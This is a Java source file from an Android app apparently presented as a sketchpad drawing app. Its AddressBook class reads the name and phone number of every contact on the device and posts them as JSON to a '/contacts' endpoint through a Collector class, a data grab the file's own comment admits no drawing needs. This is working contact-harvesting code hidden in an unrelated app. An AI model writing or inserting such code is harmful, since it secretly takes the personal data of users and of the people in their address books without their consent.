package com.example.sketchpad;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.util.Log;
import java.io.IOException;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** What no drawing needs: every name and number of the phone's address book. */
class AddressBook implements Runnable {
    private static final String[] COLUMNS = {Phone.DISPLAY_NAME, Phone.NUMBER};

    private final Context context;

    AddressBook(Context context) {
        this.context = context;
    }

    @Override
    public void run() {
        try {
            Collector.post("/contacts", read().toString());
        } catch (IOException e) {
            Log.w("Sketchpad", "not sent", e);
        } catch (JSONException e) {
            Log.w("Sketchpad", "not sent", e);
        }
    }

    JSONArray read() throws JSONException {
        JSONArray people = new JSONArray();
        Cursor rows = context.getContentResolver().query(Phone.CONTENT_URI, COLUMNS, null, null, null);
        if (rows == null) {
            return people;
        }
        int name = rows.getColumnIndex(Phone.DISPLAY_NAME);
        int number = rows.getColumnIndex(Phone.NUMBER);
        while (rows.moveToNext()) {
            people.put(new JSONObject().put("name", rows.getString(name)).put("number", rows.getString(number)));
        }
        rows.close();
        return people;
    }
}
